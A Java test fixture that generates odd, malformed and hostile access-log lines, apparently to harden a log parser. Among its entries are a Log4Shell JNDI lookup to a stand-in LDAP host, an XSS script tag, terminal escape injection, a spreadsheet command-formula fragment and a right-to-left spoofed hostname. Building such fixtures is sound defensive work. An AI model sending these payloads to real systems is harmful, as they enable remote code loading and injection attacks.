package io.github.logtraffic.samples;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;

/** What attackers, broken programs and full disks write into logs. About half of it is entries all the same. */
final class HostileLines {
    private static final String TIME = " - - [22/Nov/2026:04:05:06 +0000] ";
    private static final String TAIL = " 400 157 \"-\" \"-\"";

    private static final List<String> ENTRIES = List.of(
            // requests that are none
            "203.0.113.9" + TIME + "\"\\x16\\x03\\x01\\x00\\xF4\\x01\"" + TAIL,
            "203.0.113.9" + TIME + "\"\u0016\u0003\u0001\u0000\u00f4\"" + TAIL,
            "203.0.113.9" + TIME + "\"\"" + TAIL,
            "203.0.113.9" + TIME + "\"-\"" + TAIL,
            "203.0.113.9" + TIME + "\"GET /\"" + TAIL,
            "203.0.113.9" + TIME + "\"GET /a b c HTTP/1.1\"" + TAIL,
            "203.0.113.9" + TIME + "\"GET /?q=\\\"><script>alert(1)</script> HTTP/1.1\"" + TAIL,
            "203.0.113.9" + TIME + "\"GET /\\\\ HTTP/1.1\"" + TAIL,
            "203.0.113.9" + TIME + "\"${jndi:ldap://203.0.113.1/a}\" 400 0 \"-\" \"${jndi:ldap://203.0.113.1/a}\"",
            // terminals, spreadsheets and pages that believe what they are given
            "203.0.113.10" + TIME + "\"GET /\u001B[2J\u001B]0;owned\u0007 HTTP/1.1\"" + TAIL,
            "=cmd|'/c" + TIME + "\"GET / HTTP/1.1\" 200 5 \"-\" \"-\"",
            "\u001B[31mred.example" + TIME + "\"GET / HTTP/1.1\" 200 5 \"-\" \"-\"",
            "<b>bold</b>.example" + TIME + "\"GET / HTTP/1.1\" 200 5 \"-\" \"-\"",
            "evil\u202Eelpmaxe.example" + TIME + "\"GET / HTTP/1.1\" 200 5 \"-\" \"-\"",
            "\u6771\u4EAC.example" + TIME + "\"GET / HTTP/1.1\" 200 5 \"-\" \"-\"",
            // users with blanks and brackets
            "203.0.113.11 - John Smith [22/Nov/2026:04:05:06 +0000] \"GET / HTTP/1.1\" 200 5",
            "203.0.113.11 - [admin] [22/Nov/2026:04:05:06 +0000] \"GET / HTTP/1.1\" 200 5",
            // addresses in all spellings
            "::ffff:203.0.113.12" + TIME + "\"GET / HTTP/1.1\" 200 5",
            "[2001:DB8:0:0::1]:443" + TIME + "\"GET / HTTP/1.1\" 200 5",
            "203.0.113.12:54321" + TIME + "\"GET / HTTP/1.1\" 200 5",
            "-" + TIME + "\"GET / HTTP/1.1\" 200 5",
            // sizes and times at the edge
            "203.0.113.13" + TIME + "\"GET / HTTP/1.1\" 200 99999999999999999999999",
            "203.0.113.13" + TIME + "\"GET / HTTP/1.1\" 200 -1",
            "203.0.113.13" + TIME + "\"GET / HTTP/1.1\" 999 -",
            "203.0.113.13 - - [22/Nov/2026:23:59:60 +0000] \"GET / HTTP/1.1\" 200 5",
            "203.0.113.13" + TIME + "\"GET / HTTP/1.1\" 200 5 \"-\" \"an agent without end");

    private static final List<String> MALFORMED = List.of(
            " - - [22/Nov/2026:04:05:06 +0000] \"GET / HTTP/1.1\" 200 5",
            "203.0.113.14 - - [31/Feb/2026:04:05:06 +0000] \"GET / HTTP/1.1\" 200 5",
            "203.0.113.14 - - [22/Nov/2026:24:05:06 +0000] \"GET / HTTP/1.1\" 200 5",
            "203.0.113.14 - - 22/Nov/2026:04:05:06 \"GET / HTTP/1.1\" 200 5",
            "203.0.113.14" + TIME + "GET / HTTP/1.1 200 5",
            "203.0.113.14" + TIME + "\"GET / HTTP/1.1",
            "203.0.113.14" + TIME + "\"GET /?a=\"b\" HTTP/1.1\" 200 5",
            "203.0.113.14" + TIME + "\"GET / HTTP/1.1\" 20 5",
            "203.0.113.14" + TIME + "\"GET / HTTP/1.1\" - 5",
            "203.0.113.14" + TIME + "\"GET / HTTP/1.1\"",
            "\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0000",
            "{\"time\":\"2026-11-22T04:05:06Z\",\"remote_addr\":\"203.0.113.14\",\"status\":200}",
            "2026/11/22 04:05:06 [error] 7#7: *1 connect() failed (111: Connection refused)",
            "203.0.113.14");

    private HostileLines() {}

    /** All lines, with blank lines, a comment, carriage returns, bytes that are not UTF-8, and no line end at the end. */
    static byte[] all() {
        ByteArrayOutputStream log = new ByteArrayOutputStream();
        log.writeBytes("# a comment\n\n   \t\n".getBytes(StandardCharsets.UTF_8));
        for (int i = 0; i < ENTRIES.size(); i++) {
            log.writeBytes((ENTRIES.get(i) + (i % 3 == 0 ? "\r\n" : "\n")).getBytes(StandardCharsets.UTF_8));
            if (i < MALFORMED.size()) {
                log.writeBytes((MALFORMED.get(i) + "\n").getBytes(StandardCharsets.UTF_8));
            }
        }
        log.writeBytes(("caf\u00E9.example" + TIME + "\"GET /caf\u00E9 HTTP/1.1\" 200 5\n")
                .getBytes(StandardCharsets.ISO_8859_1));
        log.writeBytes(("203.0.113.15" + TIME + "\"GET /the/end HTTP/1.1\" 200 5").getBytes(StandardCharsets.UTF_8));
        return log.toByteArray();
    }
}
